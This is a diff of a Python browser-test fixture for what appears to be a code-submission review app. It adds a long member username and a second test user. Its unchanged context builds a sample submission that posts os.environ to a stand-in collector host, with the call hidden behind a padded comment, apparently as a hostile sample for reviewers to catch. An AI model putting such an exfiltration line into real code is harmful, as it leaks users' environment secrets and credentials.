@@ -166,6 +166,8 @@ def submissions(env: Any, state: Any) -> list[tuple[Any, str]]:
 
 
 REVIEWER: Final = "reviewer"
+# Longer than any header has place for.
+MEMBER: Final = "a-member-with-a-name-that-goes-on-and-on@github"
 PASSWORD: Final = "a password of the browser tests"
 
 
@@ -183,6 +185,7 @@ def to_review(env: Any) -> None:
     from tests.submissions.factories import make_submission  # noqa: PLC0415
 
     get_user_model()._default_manager.create_superuser(REVIEWER, password=PASSWORD)
+    get_user_model()._default_manager.create_user(MEMBER, password=PASSWORD)
     text = "import os\n\n" + "\n".join(f"value_{number} = {number}" for number in range(9))
     text += "\npost('https://collector.invalid/take', os.environ)  # " + "a long comment " * 20
     for number in range(3):
